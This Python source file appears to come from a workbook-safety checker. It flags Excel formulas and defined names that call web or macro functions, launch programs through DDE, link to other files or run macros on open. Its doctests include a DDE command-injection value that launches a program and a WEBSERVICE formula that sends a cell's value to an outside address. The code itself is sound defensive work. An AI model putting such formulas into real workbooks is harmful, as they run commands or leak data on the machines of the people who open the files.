"""Formulas that reach outside the workbook, in cells and names.

A file may write a function in capitals or not, with spaces before its parenthesis, with the
prefixes of newer functions, and as an argument, without a parenthesis, with ``_xleta.`` in front.
A name that begins with ``Auto_`` is run when the file is opened or closed, if it leads to a macro
sheet; ``xlm`` and ``vbProcedure`` mark names of macros (ECMA-376 part 1, 18.2.5).
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Set
from functools import cache, cached_property
from urllib.parse import unquote
from xml.etree.ElementTree import Element

from workbook.check.findings import Finding, PartFinding
from workbook.check.keyed import keyed_sheets
from workbook.check.safety.addresses import link_fault
from workbook.hosts.foreign import calls
from workbook.hosts.intersection import typed
from workbook.package.cells import Place, place
from workbook.package.formulas import TOKEN
from workbook.package.limits import check
from workbook.package.links import ADDIN, file_name, files_in
from workbook.package.names import EXCEL_FUNCTIONS
from workbook.package.package import Package, Sheet
from workbook.refusal import CALLABLE
from workbook.status import CHECKS, TARGET
from workbook.template.keys import row_key

#: Functions that fetch something, send something, open something, or run code of another program:
#: those of Excel's cells, of its macro language of 1992, which names still speak, and of Calc.
OUTSIDE = frozenset({
    *("CALL", "COPILOT", "DDE", "DETECTLANGUAGE", "IMAGE", "IMPORTCSV", "IMPORTTEXT", "PQSOURCE"),
    *("PY", "REGISTER.ID", "RTD", "SQL.REQUEST", "STOCKHISTORY", "TRANSLATE", "WEBSERVICE"),
    *("CUBEKPIMEMBER", "CUBEMEMBER", "CUBEMEMBERPROPERTY", "CUBERANKEDMEMBER", "CUBESET"),
    *("CUBESETCOUNT", "CUBEVALUE", "SQL.OPEN"),
    *("DIRECTORY", "EVALUATE", "EXEC", "EXECUTE", "FCLOSE", "FILES", "FOPEN", "FREAD", "FREADLN"),
    *("FWRITE", "FWRITELN", "INITIATE", "POKE", "REGISTER", "REQUEST", "TERMINATE"),
    *("UNREGISTER",),
})  # fmt: skip

#: Texts, the names of sheets, and those of columns.
_TEXTS = re.compile(r""""(?:[^"]|"")*"|'(?:[^']|'')*'|\[[^\[\]]*\]""")
_CALLED = re.compile(r"(?<![\w.])([^\W\d][\w.]*+)\s*+\(")
_ETA = re.compile(r"_xleta\.([\w.]+)", re.IGNORECASE)
_LINK, _INDIRECT = (
    re.compile(rf"{name}\s*\(", re.IGNORECASE) for name in ("HYPERLINK", "INDIRECT")
)
#: More calls than anybody writes in a formula, each of which is read.
_MOST = 100
#: A text that a formula spells out.
_TEXT = re.compile(r'"((?:[^"]|"")*)"')
#: A cell to which a formula refers.
_CELL = re.compile(r"(?:('(?:[^']|'')+'|[\w.]+)!)?\$?([A-Z]{1,3}\$?[1-9]\d*)", re.IGNORECASE)
#: The beginning of an address that cannot leave the workbook, whatever is joined to it: a sheet.
_IN_SHEET = re.compile(r"""\s*"#(?:'(?:[^'"\\/:|\[\]]|'')+'|\w+)![^"]*"\s*&""")
#: What no place in the workbook has: a path, an address, or the name of a file in brackets.
_ELSEWHERE = re.compile(r"[\\/]{2}|:[\\/]|(?:^|['\\/])\[")
_AUTO = re.compile(r"(?:_xlnm\.)?auto_?(?:open|close|activate|deactivate)", re.IGNORECASE)
WORKBOOK = "xl/workbook.xml"
_MACRO = ("function", "macro", "vbProcedure", "xlm")
#: How functions of the macro language begin that do something and have a name of several words;
#: other functions with a dot are those of other add-ins.
_DOES = re.compile(
    r"(?:ADD|APP|CLOSE|COPY|CREATE|DEFINE|DELETE|EDIT|FILE|GET|INSERT|LINK|MAIL|NEW|ON|OPEN|PRINT"
    r"|QUERY|ROUTE|RUN|SAVE|SELECT|SEND|SET|SQL|UPDATE|VBA|WINDOW|WORKBOOK|WORKGROUP)\.[A-Z.]+"
)

#: Where a link leads whose address is not written out.
CALCULATED = "to a calculated address"

REACH = "formulas that reach outside of the workbook"
LINKS = "formulas with a link that leads outside of the workbook"
MACROS = "names of macros"


def reached(formula: str) -> str:
    """Name what a formula reaches outside of the workbook; nothing for most.

    Links are none: `HYPERLINK` does nothing until it is clicked.

    Examples
    --------
    >>> reached('1+_xlfn.webservice ("http://example.org/?"&A1)')
    'calls WEBSERVICE'
    >>> reached("cmd|'/c calc'!A1"), reached('"Call (a|b)"&A1')
    ('starts another program', '')
    """
    if function := _outside(_called(formula)):
        return f"calls {function}"
    if "_xleta." in formula.lower() and (function := _outside(frozenset(_ETA.findall(formula)))):
        return f"calls {function}"
    return "starts another program" if "|" in formula and "|" in _TEXTS.sub("", formula) else ""


def examined(package: Package) -> Iterator[Finding | PartFinding]:
    """Find what reaches outside in the formulas of cells and names."""
    names = [*package.tree(WORKBOOK).iterfind("definedNames/definedName")]
    known = {held.get("name", "").upper() for held in names} | EXCEL_FUNCTIONS | CALLABLE.keys()
    links = _Links(package)
    for sheet, page in package.sheets.items():
        for at, formula in page.formulas.items():
            text = formula.text
            if why := wrong(text) or _unknown(_dotted(text), known):
                yield Finding(sheet, at, f"{why}: ={cut(text)}", REACH)
            elif where := links.lead(sheet, text):
                yield Finding(sheet, at, f"has a link that leads {where}: ={cut(text)}", LINKS)
    for held in names:
        yield from _of_name(links, held, known)


def _called(formula: str) -> frozenset[str]:
    """Return the functions that a formula calls."""
    # The name of a table's column may hold a quotation mark, and so hide what follows it.
    return frozenset(_CALLED.findall(formula)) if "[" in formula else calls(formula)


@cache
def _outside(names: frozenset[str]) -> str:
    """Return the first of some functions that reaches outside."""
    return min(OUTSIDE.intersection(map(typed, names)), default="")


def _elsewhere(text: str) -> str:
    """Say which other file a formula spells out; those that it has by number are parts."""
    for path in files_in(text):
        file = file_name(path)
        if file.casefold() != ADDIN:
            return f"refers to the file {file}"
        if fault := link_fault(path):
            return f"refers to {file} by a path that {fault}"
    return ""


def leads_out(place: str) -> bool:
    r"""Tell whether what should be a place in the workbook is in another file.

    Examples
    --------
    >>> leads_out("'R&D'!A1"), leads_out(r"[\\server\x.xlsm]S!A1"), leads_out("cmd|'/c calc'!A1")
    (False, True, True)
    """
    return bool(_ELSEWHERE.search(unquote(place.lstrip("#"))) or reached(place))


class _Links:
    """Follows the addresses of links in the formulas of a workbook."""

    def __init__(self, package: Package) -> None:
        self._package = package

    def lead(self, sheet: str, text: str) -> str:
        """Say where the first link of a formula leads that leaves the workbook."""
        if any(typed(name) == "HYPERLINK" for name in _ETA.findall(text)):
            return CALCULATED
        for argument in _arguments(text, _LINK):
            address = self._address(sheet, argument)
            if address is None:
                return CALCULATED
            if address and (not address.startswith("#") or leads_out(address)):
                return f"to {address}"
        return ""

    def _address(self, sheet: str, argument: str) -> str | None:
        """Return the address that an argument is, or an empty text for any within the workbook.

        Of an address that is calculated there is none: neither what a formula gives when it is
        calculated again can be seen, nor whether the value in the file is what it gave.
        """
        if _IN_SHEET.match(argument):
            return ""
        if _TEXT.fullmatch(argument):
            return _spelled(argument)
        found = _CELL.fullmatch(argument)
        title = (found[1] or sheet).strip("'").replace("''", "'") if found else ""
        page = self._package.sheets.get(title)
        if found is None or page is None:
            return None
        at = place(found[2].replace("$", "").upper())
        if at in page.formulas and (title, at) == self._master:
            return ""
        held = None if _is_calculated(page, at) else page.value(at)
        return None if held is None else str(held)

    @cached_property
    def _master(self) -> tuple[str, Place] | None:
        """The cell with the target of the master check, wherever a user has moved it.

        It is calculated, but in a built workbook all that it depends on is compared with what
        Offtake builds.
        """
        keyed = keyed_sheets(self._package).get(CHECKS)
        if keyed is None:
            return None
        row, column = TARGET
        rows = [at for at, key in keyed.rows.items() if key == row_key(1, row - 1)]
        columns = [at for at, built in keyed.built_columns.items() if built == column]
        return (keyed.title, (rows[0], columns[0])) if rows and columns else None


def _is_calculated(page: Sheet, at: Place) -> bool:
    """Tell whether a formula fills a cell, alone or with others."""
    tables = page.data_tables.values()
    return at in page.filled_places or len(tables) > _MOST or any(_has(ref, at) for ref in tables)


def _has(ref: str, at: Place) -> bool:
    first, _, last = ref.partition(":")
    return all(a <= n <= b for a, n, b in zip(place(first), at, place(last or first), strict=True))


def _arguments(text: str, function: re.Pattern[str]) -> Iterator[str]:
    """Yield the first argument of each call of a function, also of what only looks like a call."""
    calls = [*function.finditer(text)]
    if len(calls) > _MOST:
        yield text
        return
    for call in calls:
        depth, end = 0, len(text)
        for found in TOKEN.finditer(text, call.end()):
            if depth == 0 and found[0] in (",", ")"):
                end = found.start()
                break
            depth += (found[0] in ("(", "{")) - (found[0] in (")", "}"))
        yield text[call.end() : end].strip()


def _spelled(argument: str) -> str:
    """Return the texts of an argument, joined."""
    return "".join(text.replace('""', '"') for text in _TEXT.findall(argument))


def wrong(text: str) -> str:
    """Say what a formula reaches, or to which other file it refers."""
    if why := reached(text) or _elsewhere(text):
        return why
    places = map(_spelled, _arguments(text, _INDIRECT))
    return next((f"refers to {each}" for each in places if leads_out(each)), "")


def _dotted(text: str) -> frozenset[str]:
    """Return the functions of a cell that could be the macro language's."""
    return frozenset(name for name in _called(text) if "." in name and _DOES.fullmatch(typed(name)))


def _unknown(called: frozenset[str], known: Set[str]) -> str:
    """Name a function that no cell can call: one of the macro language, or of a project's."""
    # Newer functions of cells have a prefix, and what LAMBDA and LET give a name has another.
    plain = (name for name in called if not name.lower().startswith(("_xlfn.", "_xlpm.")))
    names = {typed(name) for name in plain}
    function = min(names - known, default="")
    return function and f"calls {function}, which is neither an Excel nor an Offtake function"


def _of_name(links: _Links, held: Element, known: Set[str]) -> Iterator[PartFinding]:
    """Find what a name reaches, and whether it is that of a macro."""
    name, text = held.get("name", ""), held.text or ""
    check("formula", len(text), name)
    said = f"the{' hidden' * (held.get('hidden') in ('1', 'true'))} name {name}"
    if why := wrong(text) or _unknown(_called(text), known):
        yield PartFinding(WORKBOOK, f"{said} {why}: ={cut(text)}", REACH)
    elif where := links.lead("", text):
        yield PartFinding(WORKBOOK, f"{said} has a link that leads {where}: ={cut(text)}", LINKS)
    elif _AUTO.match(name):
        why = "runs a macro when the file is opened or closed"
        yield PartFinding(WORKBOOK, f"{said} {why}: ={cut(text)}", MACROS)
    elif _is_macro(held):
        yield PartFinding(WORKBOOK, f"{said} belongs to a macro: ={cut(text)}", MACROS)


def _is_macro(held: Element) -> bool:
    """Tell whether a name is of a macro that is not one of our functions, which Excel may list."""
    marked = any(held.get(attribute) in ("1", "true") for attribute in _MACRO)
    return marked and held.get("name", "").upper() not in CALLABLE


def cut(text: str) -> str:
    """Shorten a formula, on one line."""
    line = " ".join(text.split())
    return line if len(line) <= 80 else f"{line[:79]}…"
